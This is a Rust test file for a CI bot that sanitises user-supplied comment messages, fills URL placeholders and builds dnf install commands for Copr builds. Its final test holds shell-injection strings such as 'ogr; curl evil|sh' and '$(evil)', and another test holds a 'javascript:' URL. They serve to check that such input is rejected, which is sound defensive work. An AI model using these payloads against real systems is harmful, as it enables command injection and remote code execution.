use super::{MAX_FILLED, MAX_MESSAGE, Values, install_commands, message};

const VALUES: Values<'static> = Values {
    commit: Some("c0ffee"),
    page: Some("https://packflow.example/targets/7"),
    external_page: Some("https://copr.example/build/9/"),
    logs: Some("https://copr.example/log.gz"),
};

#[test]
fn a_message_is_kept_without_control_characters_and_within_bounds() {
    for (text, kept) in [
        (
            "It failed. @containers/packit-build please check.",
            "It failed. @containers/packit-build please check.",
        ),
        ("  two\r\n\tlines\u{7}\u{1b}[31m \n", "two\n\tlines[31m"),
        ("**see** [this](https://a)", "**see** [this](https://a)"),
    ] {
        assert_eq!(message(text).as_deref(), Some(kept), "{text}");
    }
    assert_eq!(message(" \u{0}\n"), None);
    assert_eq!(message(&"ä".repeat(2 * MAX_MESSAGE)).unwrap().chars().count(), MAX_MESSAGE);
}

#[test]
fn placeholders_are_filled_in_and_other_braces_stay() {
    for (text, filled) in [
        ("failed for {commit_sha}.", "failed for c0ffee."),
        (
            "{packit_dashboard_url} {external_dashboard_url}",
            "https://packflow.example/targets/7 https://copr.example/build/9/",
        ),
        ("{logs_url}{logs_url}", "https://copr.example/log.gzhttps://copr.example/log.gz"),
        ("{unknown} {{commit_sha}} { commit_sha } {", "{unknown} {c0ffee} { commit_sha } {"),
        ("{commit_sha", "{commit_sha"),
        ("", ""),
    ] {
        assert_eq!(VALUES.fill(text), filled, "{text}");
    }
}

#[test]
fn what_is_not_known_or_no_web_address_becomes_empty() {
    let text = "[{commit_sha}{packit_dashboard_url}{external_dashboard_url}{logs_url}]";
    assert_eq!(Values::default().fill(text), "[]");
    let bad =
        Values { external_page: Some("javascript:alert(1)"), logs: Some("https://a b"), ..Values::default() };
    assert_eq!(bad.fill(text), "[]");
}

#[test]
fn a_filled_message_is_bounded_and_no_line_of_it_is_a_command() {
    let long = message(&"{logs_url}".repeat(MAX_MESSAGE)).unwrap();
    let logs = format!("https://copr.example/{}", "a".repeat(200));
    assert_eq!(Values { logs: Some(&logs), ..VALUES }.fill(&long).chars().count(), MAX_FILLED);
    assert_eq!(
        Values::default().fill("/packit build\n  {logs_url}/lgtm\na/b"),
        "\\/packit build\n  \\/lgtm\na/b"
    );
    let filled = Values::default().fill("{logs_url}/packit build");
    assert_eq!(crate::comments::parse("/packit", &filled), crate::comments::Parsed::NoCommand);
}

#[test]
fn what_was_built_is_installed_by_its_name() {
    let built = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect::<Vec<_>>();
    let last = |package: &str, names: &[&str]| {
        install_commands("packit/ogr-7", package, &built(names)).unwrap().pop().unwrap()
    };
    assert_eq!(
        install_commands("@copr/ogr-7", "ogr", &[]).unwrap(),
        ["dnf install -y dnf-plugins-core", "dnf copr enable @copr/ogr-7", "dnf install -y ogr"]
    );
    let names =
        ["ogr-0.50-1.fc42.noarch", "ogr-doc-1:0.50-1.fc42.noarch", "ogr-debuginfo-0.50-1.fc42.x86_64"];
    assert_eq!(last("ogr", &names), "dnf install -y ogr");
    assert_eq!(last("python-ogr", &names), "dnf install -y ogr ogr-doc");
}

/// The name of a package, and of a project at Copr, stand in the configuration of anybody's pull request.
#[test]
fn no_command_holds_what_means_something_to_a_shell() {
    for name in ["ogr; curl evil|sh", "$(evil)", "-y", "a b", "a\nb", "`a`", ""] {
        assert_eq!(install_commands("packit/ogr-7", name, &[]).unwrap().len(), 2, "{name}");
        assert_eq!(install_commands(name, "ogr", &[]), None, "{name}");
    }
}
